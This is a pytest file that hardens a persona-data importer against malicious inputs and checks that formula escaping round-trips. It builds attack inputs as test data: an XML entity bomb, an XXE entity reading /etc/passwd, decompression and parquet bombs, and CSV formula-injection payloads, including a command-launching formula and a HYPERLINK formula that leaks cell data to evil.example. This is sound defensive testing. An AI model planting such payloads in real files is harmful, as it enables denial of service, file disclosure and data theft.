"""Files made to break an importer: a sentence or some pairs, soon, with little memory, and nothing written half."""

import csv
import io
import json
import resource
import struct
import subprocess
import sys
import tempfile
import zipfile
import zlib
from pathlib import Path

import pyarrow as pa
import pytest
from cases import check_each
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st
from openpyxl import Workbook
from pyarrow.parquet import write_table

from persona.errors import InputError
from persona.store import persona_folder
from persona.store.csv_safety import escape_formula, unescape_formula
from persona.store.limited_process import read_process_lines
from persona.store.pairs import MAX_CHARACTERS, Pair
from persona.store.persona_folder import PersonaCard
from persona.write.importers import ImportNote, ImportOptions, SkippedRow, packed_table, registry, spreadsheet
from persona.write.importers.character_card import MAX_CALLED
from persona.write.importers.text_source import open_source

PAIRS = [Pair("Who are you?", "Mags. I keep the light."), Pair("你是谁？", "本宫甄嬛。", (("a", "b"),))]
CARD = {
    "spec": "chara_card_v2",
    "data": {"name": "Mags", "description": "Keeper", "first_mes": "Hi", "mes_example": ""},
}
SUFFIXES = (".txt", ".csv", ".tsv", ".json", ".jsonl", ".xlsx", ".parquet", ".png")


def outcome(path: Path) -> str:
    """What becomes of a file, by every importer and by detection: pairs, skipped lines, or a sentence."""
    try:
        source = open_source(path)
    except InputError as e:
        return str(e)
    said = ""
    for name in (None, *registry.import_formats()):
        try:
            chosen = name or registry.detect_format(source)
            registry.get_importer(chosen).survey(source)
            made = list(registry.read_source(source, chosen, ImportOptions(speakers=("Mags",))))
            assert all(isinstance(item, Pair | SkippedRow | ImportNote) for item in made)
            assert all(
                len(x) <= MAX_CHARACTERS
                for item in made
                if isinstance(item, Pair)
                for x in (item.instruction, item.output)
            )
        except InputError as e:
            said = str(e)
            assert len(said) < 3_000
    return said


@pytest.fixture
def put(tmp_path):
    def write(name: str, data: bytes | str) -> Path:
        path = tmp_path / name
        path.write_bytes(data.encode("utf-8", "surrogatepass") if isinstance(data, str) else data)
        return path

    return write


# --- real files, broken ------------------------------------------------------------------------------------------


def png(text: bytes, size: tuple[int, int] = (1, 1), kind: bytes = b"tEXt") -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", *size, 8, 0, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", head)
        + chunk(kind, text)
        + chunk(b"IDAT", zlib.compress(b"\0\0"))
        + chunk(b"IEND", b"")
    )


def xlsx(change=lambda text: text, member: str = "xl/worksheets/sheet1.xml") -> bytes:
    book, out, made = Workbook(), io.BytesIO(), io.BytesIO()
    for row in (["instruction", "output"], ["Who are you?", "Mags."]):
        book.active.append(row)
    book.save(out)
    with zipfile.ZipFile(out) as old, zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            data = old.read(name)
            new.writestr(name, change(data.decode()).encode() if name == member else data)
    return made.getvalue()


def parquet() -> bytes:
    out = io.BytesIO()
    write_table(pa.table({"instruction": [p.instruction for p in PAIRS], "output": [p.output for p in PAIRS]}), out)
    return out.getvalue()


def real() -> dict[str, bytes]:
    import base64

    rows = [p.to_dict() for p in PAIRS]
    return {
        ".json": json.dumps(rows, ensure_ascii=False).encode(),
        ".jsonl": "".join(json.dumps(r) + "\n" for r in rows).encode(),
        ".csv": "".join(spreadsheet.dump(PAIRS)).encode(),
        ".xlsx": xlsx(),
        ".png": png(b"chara\0" + base64.b64encode(json.dumps(CARD).encode())),
        ".txt": b"ANN\nWho are you?\n\nMAGS\nI keep the light.\n" * 20,
        ".parquet": parquet(),
    }


REAL = real()
FUZZ = settings(max_examples=10, suppress_health_check=list(HealthCheck))


@pytest.mark.slow
@FUZZ
@given(st.sampled_from(sorted(REAL)), st.data())
def test_a_real_file_cut_changed_or_joined_is_pairs_or_a_sentence(suffix, data):
    whole = bytearray(REAL[suffix])
    for _ in range(data.draw(st.integers(0, 4))):
        whole[data.draw(st.integers(0, len(whole) - 1))] = data.draw(st.integers(0, 255))
    cut = data.draw(st.integers(0, len(whole)))
    named = data.draw(st.sampled_from([suffix, *SUFFIXES]))
    with tempfile.TemporaryDirectory() as place:
        path = Path(place) / f"file{named}"
        path.write_bytes(bytes(whole[:cut]) + data.draw(st.sampled_from([b"", b"\0", bytes(whole)])))
        outcome(path)


@pytest.mark.slow
@FUZZ
@given(st.one_of(st.binary(max_size=400), st.text(max_size=200).map(lambda s: s.encode("utf-8", "surrogatepass"))),
       st.sampled_from(SUFFIXES), st.sampled_from([b"", b"PAR1", b"PK\3\4", b"\x89PNG\r\n\x1a\n", b"[", b"{", b"\xff\xfe"]))  # fmt: skip
@example(b"PAR1" * 3, ".parquet", b"PAR1")
@example(b"\xd8" * 9, ".json", b"\xff\xfe")
def test_any_bytes_are_pairs_or_a_sentence(data, suffix, start):
    with tempfile.TemporaryDirectory() as place:
        path = Path(place) / f"file{suffix}"
        path.write_bytes(start + data)
        outcome(path)


VALUES = st.recursive(
    st.one_of(st.none(), st.booleans(), st.integers(), st.floats(), st.text(max_size=9)),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(
        st.sampled_from(["instruction", "output", "history", "conversations", "messages", "from", "value", "role", "content",
                         "data", "name", "description", "first_mes", "mes_example", "spec", "prompt", "x"]), inner, max_size=4),
    max_leaves=12,
)  # fmt: skip


@settings(max_examples=60, suppress_health_check=list(HealthCheck))
@given(st.lists(VALUES, max_size=3), st.booleans())
def test_any_json_is_pairs_or_a_sentence(rows, lines):
    with tempfile.TemporaryDirectory() as place:
        path = Path(place) / ("f.jsonl" if lines else "f.json")
        text = "\n".join(map(json.dumps, rows)) if lines else json.dumps(rows)
        path.write_text(text)
        outcome(path)


# --- bombs -------------------------------------------------------------------------------------------------------

LAUGHS = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]>"  # fmt: skip


def with_entity(doctype: str):
    return lambda text: text.replace("<worksheet", doctype + "<worksheet", 1).replace("<t>Who are you?", "<t>&j;")


def rows(inner: str):
    return lambda text: text.replace("</sheetData>", inner + "</sheetData>")


def repeated_parquet(cell, rows: int) -> bytes:
    """Two columns of one cell again and again, however long, stored once."""
    out, values = io.BytesIO(), pa.array([cell], pa.list_(pa.string()) if isinstance(cell, list) else pa.string())
    if isinstance(cell, str):  # as it is in the file; else it would be repeated here
        values = pa.DictionaryArray.from_arrays(pa.array([0] * rows, pa.int32()), values)
    elif cell is None:
        values = pa.nulls(rows, pa.string())
    table = pa.table({"instruction": values, "output": values})
    write_table(table, out, compression="zstd", write_statistics=False, store_schema=False)
    return out.getvalue()


def repeated_text_sheet() -> bytes:
    """A sheet in which each of many cells is the same long text; openpyxl takes long to write it."""
    row, out = b"<row>" + b'<c t="inlineStr"><is><t>%b</t></is></c>' % (b"x" * 32_000) * 100 + b"</row>", io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(xlsx())) as old,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new,
    ):
        for name in old.namelist():
            start, mark, end = old.read(name).partition(b"</sheetData>")
            with new.open(name, "w") as member:
                for part in (start, *(row for _ in range(100) if mark), mark + end):
                    member.write(part)
    return out.getvalue()


BOMBS = {
    "dictionary.parquet": lambda: repeated_parquet("x" * 4_000_000, 256),
    "nulls.parquet": lambda: repeated_parquet(None, 30_000_000),
    "lists.parquet": lambda: repeated_parquet([None] * 5_000_000, 1),
    "shared.xlsx": lambda: repeated_text_sheet(),
    "laughs.xlsx": lambda: xlsx(with_entity(LAUGHS)),
    "file.xlsx": lambda: xlsx(with_entity('<!DOCTYPE x [<!ENTITY j SYSTEM "file:///etc/passwd">]>')),
    "row.xlsx": lambda: xlsx(lambda t: t.replace('<row r="2"', '<row r="99999999999"')),
    "right.xlsx": lambda: xlsx(rows("".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(3, 30_000)))),
    "unpacks.xlsx": lambda: xlsx(rows("<!--" + " " * 30_000_000 + "-->")),
    "columns.csv": lambda: "a," * 900_000 + "b\n1,2\n",
    "names.csv": lambda: ",".join(f"a{n}" for n in range(60_000)) + "\n1,2\n",
    "tabs.txt": lambda: "\t" * 100_000 + "x",
    "commas.txt": lambda: "," * 100_000 + "x",
    "cell.csv": lambda: "instruction,output\n" + "x" * 2_100_000 + ",b\n",
    "deep.json": lambda: '[{"instruction": ' + "[" * 50_000 + "]" * 50_000 + "}]",
    "deeper.json": lambda: "[" * 150_000,
    "keys.json": lambda: '{"a":' * 30_000,
    "number.json": lambda: '[{"instruction": ' + "9" * 100_000 + ', "output": "b"}]',
    "quote.csv": lambda: 'instruction,output\n"' + "x\n" * 10_000,
    "many.png": lambda: png(b"chara\0" + b"A" * 1_000_000),
    "packed.png": lambda: png(b"chara\0\0" + zlib.compress(b"A" * 90_000_000), kind=b"zTXt"),
    "pixels.png": lambda: png(b"chara\0AAAA", (60_000, 60_000)),
    "nul.txt": lambda: b"\0" * 3_000_000,
}  # fmt: skip


@pytest.mark.slow
@pytest.mark.timeout(60)
@pytest.mark.parametrize("name", [n for n in BOMBS if n not in ("right.xlsx",)])
def test_a_bomb_ends_soon_in_little_memory(name, put):
    """Each of these took minutes, gigabytes or for ever before its limit was there, or would without it."""
    path = put(name, BOMBS[name]())
    before = [resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    said = outcome(path)
    assert "/root" not in said and "root:" not in said
    after = [resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)]
    # kilobytes; a child begins with the peak of the process that started it
    assert after[0] - before[0] < 600_000 and after[1] <= max(*before, after[0], 600_000)


@pytest.mark.slow
@pytest.mark.parametrize(
    "name",
    [
        "right.xlsx",
        "row.xlsx",
        pytest.param("shared.xlsx", marks=pytest.mark.release),  # one of the bombs above
        "dictionary.parquet",
        "nulls.parquet",
    ],
)
def test_a_file_that_becomes_too_much_is_refused(name, put):
    source = open_source(put(name, BOMBS[name]()))
    with pytest.raises(InputError, match=rf"{name}: more than \d+ MB come out of it"):
        list(spreadsheet.read(source, ImportOptions()))
    with pytest.raises(InputError, match="come out of it"):
        list(registry.read_source(source, "table", ImportOptions()))


def test_a_value_that_is_meant_again_and_again_is_not_repeated_in_memory(put):
    """900 bytes, in which a value of 4 MB stands once and is meant 512 times."""
    path = put("dictionary.parquet", BOMBS["dictionary.parquet"]())
    assert path.stat().st_size < 2_000
    with pytest.raises(InputError, match="come out of it"):
        registry.detect_format(open_source(path))


def test_one_long_cell_skips_its_row_alone(put):
    cells = ["Who are you?", "x" * 9_000_000, "And then?"]
    out = io.BytesIO()
    write_table(pa.table({"instruction": cells, "output": cells}), out)
    source = open_source(put("long.parquet", out.getvalue()))
    found = list(spreadsheet.read(source, ImportOptions()))
    assert [f.instruction for f in found if isinstance(f, Pair)] == ["Who are you?", "And then?"]
    assert [(f.line, str(f.why)) for f in found if isinstance(f, SkippedRow)] == [
        (2, "longer than 2,000,000 characters")
    ]


def test_a_decoder_that_comes_to_its_limits_is_a_sentence(put, monkeypatch):
    monkeypatch.setattr(packed_table, "SECONDS", 0)
    with pytest.raises(InputError, match=r"x\.xlsx: reading it takes too much memory or time"):
        list(spreadsheet.read(open_source(put("x.xlsx", xlsx())), ImportOptions()))


@pytest.mark.parametrize("does", ["bytearray(2_000_000_000)", "[0 for _ in iter(int, 1)]"])
def test_a_process_with_limits_ends_at_them(does):
    program = f"from persona.store.limited_process import *; limit_process(MAX_MEMORY, 1); {does}"
    assert subprocess.run([sys.executable, "-c", program], capture_output=True, timeout=60).returncode != 0


def test_a_decoder_sees_no_keys(monkeypatch, tmp_path):
    monkeypatch.setenv("HF_TOKEN", "hf_secret")
    (tmp_path / "tell.py").write_text("import os; print([k for k in os.environ if 'TOKEN' in k])")
    monkeypatch.setenv("PYTHONPATH", str(tmp_path))
    assert b"".join(read_process_lines("tell", longest=1_000)) == b"[]\n"


def test_a_placeholder_does_not_multiply_a_card(put):
    """{{char}} stands for the nickname: of a million characters, it would be a thousand million."""
    data = {**CARD["data"], "nickname": "N" * 1_000_000, "mes_example": "{{user}}: a\n{{char}}: " + "{{char}}" * 400}
    source = open_source(put("card.json", json.dumps({**CARD, "data": data})))
    pairs = [i for i in registry.read_source(source, "character", ImportOptions()) if isinstance(i, Pair)]
    assert [len(p.output) for p in pairs] == [400 * MAX_CALLED]


def test_earlier_turns_do_not_multiply_a_chat(put, monkeypatch):
    monkeypatch.setattr("persona.write.importers.budget.MIN_BYTES", 1_000_000)
    source = open_source(put("chat.txt", "ANN: How are you?\nMAGS: Fine.\n" * 3_000))
    with pytest.raises(InputError, match="come out of it"):
        list(registry.read_source(source, "screenplay", ImportOptions(speakers=("Mags",), turns=10_000)))


def test_too_many_columns_are_refused_in_words(put):
    with pytest.raises(InputError, match="60,000 columns"):
        spreadsheet.survey(open_source(put("names.csv", BOMBS["names.csv"]())))


def test_rows_of_too_many_cells_are_kept_in_short(put):
    """Ten thousand skipped rows are kept to be listed; of two million characters each they would be twenty gigabytes."""
    source = open_source(put("x.csv", "instruction,output\n" + "a,b," + "c" * 1_000_000 + "\n"))
    skipped = [i for i in spreadsheet.read(source, ImportOptions()) if isinstance(i, SkippedRow)]
    assert len(skipped) == 1 and len(skipped[0].text) < 3_000


@pytest.mark.parametrize("name", ["row.xlsx", "columns.csv", "file.xlsx", "packed.png"])
def test_a_refused_file_writes_nothing(name, put):
    mine = persona_folder.create_persona_at(persona_folder.personas_dir() / "mags", PersonaCard(name="Mags"), PAIRS)
    before = sorted((p, p.read_bytes()) for p in mine.path.rglob("*") if p.is_file())
    format = "character" if name.endswith("png") else "table"
    with pytest.raises(InputError):
        registry.import_into(mine, open_source(put(name, BOMBS[name]())), format, ImportOptions())
    assert sorted((p, p.read_bytes()) for p in mine.path.rglob("*") if p.is_file() and p.name != ".lock") == before


# --- formulas ----------------------------------------------------------------------------------------------------

FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx", "\nx", " =1", "\u3000=1", "＝1", "＋1", "－1", "＠x", "'=1", "''=1",
            "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example?"&A1)', "- a list", "-- Ann", "'\t", "'\n=1"]  # fmt: skip
TEXTS = ["'Twas the night", "'", "''", "“=1”", "a=1", "Plain.", "''quoted''", "1-2", "…", "'n' roll"]


def test_no_exported_cell_is_a_formula_and_each_comes_back_the_same(put):
    def check(text):
        pair = Pair(text, text, ((text, text),), text)
        made = "".join(spreadsheet.dump([pair]))
        cells = list(csv.reader(io.StringIO(made.removeprefix("\ufeff"), newline="")))[1]
        assert all(c.lstrip()[:1] not in tuple("=+-@＝＋－＠") and c[:1] not in ("\t", "\r", "\n") for c in cells)
        assert [
            i for i in spreadsheet.read(open_source(put("x.csv", made)), ImportOptions()) if isinstance(i, Pair)
        ] == [pair]

    check_each(FORMULAS, check)


def test_text_that_is_no_formula_is_left_alone_both_ways():
    def check(text):
        assert escape_formula(text) == text == unescape_formula(text)

    check_each(TEXTS, check)


@given(st.text(alphabet="'=+-@＝ \t\r\nab", max_size=12))
def test_every_text_comes_back_the_same(text):
    assert unescape_formula(escape_formula(text)) == text
